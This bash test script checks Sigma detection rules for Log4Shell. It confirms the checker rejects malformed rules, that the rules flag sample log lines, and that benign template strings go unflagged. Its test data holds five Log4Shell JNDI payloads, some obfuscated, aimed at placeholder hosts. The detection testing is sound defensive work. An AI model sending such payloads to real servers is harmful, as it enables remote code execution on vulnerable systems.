#!/usr/bin/env bash
# sigma_rules.sh -- the Sigma rules in rules/sigma: every rule has the fields
# the Sigma specification requires (title, id, logsource, detection,
# condition; status, level, date as it defines them) and its patterns
# compile (tests/tools/sigma.py); the checker rejects broken rules; the
# rules match payload lines and leave benign templates alone.
source "$(dirname "$0")/logs_lib.bash"
SRC=${DEFUSE_SRC:-$(cd "$(dirname "$0")/../.." && pwd)}
if ! python3 -c 'import yaml' 2>/dev/null; then
  echo "SKIP: python3 yaml module not installed (Debian python3-yaml)"; exit 77
fi
cd "$T"
SIG="python3 $SRC/tests/tools/sigma.py"
$SIG check "$SRC"/rules/sigma/*.yml > out.txt; expect_rc 0 $? "every rule passes the check"
n=$(ls "$SRC"/rules/sigma/*.yml | wc -l)
[ "$(grep -c '^ok:' out.txt)" = "$n" ] && ok "$n rules checked" || fail "not every rule checked"
# The checker can fail: a rule without id, one with a regex that does not compile.
sed '/^id:/d' "$SRC/rules/sigma/defuse_log4shell_keywords.yml" > noid.yml
$SIG check noid.yml > out.txt; expect_rc 1 $? "rule without id rejected"
expect_grep "missing required field 'id'" out.txt "names the missing field"
sed 's/(?i)\\\$\\{/(?i)\\$\\{(/' "$SRC/rules/sigma/defuse_log4shell_obfuscated_re.yml" > badre.yml
$SIG check badre.yml > out.txt; expect_rc 1 $? "rule with a broken regex rejected"
expect_grep "does not compile" out.txt "names the regex"
cat > lines.txt <<'L'
203.0.113.9 - - [10/Dec/2021:13:00:00 +0000] "GET /?q=${jndi:ldap://a.example/x} HTTP/1.1" 200 1 "-" "curl/7.74"
203.0.113.9 - - [10/Dec/2021:13:00:01 +0000] "GET / HTTP/1.1" 200 1 "-" "${${lower:j}${::-n}di:ldap://b.example/x}"
203.0.113.9 - - [10/Dec/2021:13:00:02 +0000] "GET /?q=%24%7Bjndi:ldap://c.example/x%7D HTTP/1.1" 200 1 "-" "curl/7.74"
2021-12-10 13:00:03,123 WARN login failed for user '${jNdI:rmi://d.example/x}'
2021-12-10 13:00:04,123 INFO api X-Api-Version: \u0024{jndi:dns://e.example/x}
L
cat > benign.txt <<'L'
203.0.113.9 - - [10/Dec/2021:13:00:05 +0000] "GET /index.html HTTP/1.1" 200 1 "-" "Mozilla/5.0"
2021-12-10 13:00:06,123 INFO rendering template Hello ${user.name}
2021-12-10 13:00:07,123 INFO config ${env:HOME}/app and ${sys:java.version}
L
$SIG match "$SRC"/rules/sigma/*.yml < lines.txt > hit.txt; expect_rc 0 $? "match runs"
[ "$(wc -l < hit.txt)" = 5 ] && ok "all 5 payload lines matched" || fail "payload lines matched: $(wc -l < hit.txt) of 5"
$SIG match "$SRC"/rules/sigma/*.yml < benign.txt > hit.txt
[ ! -s hit.txt ] && ok "benign templates not matched" || fail "benign lines matched: $(cat hit.txt)"
finish
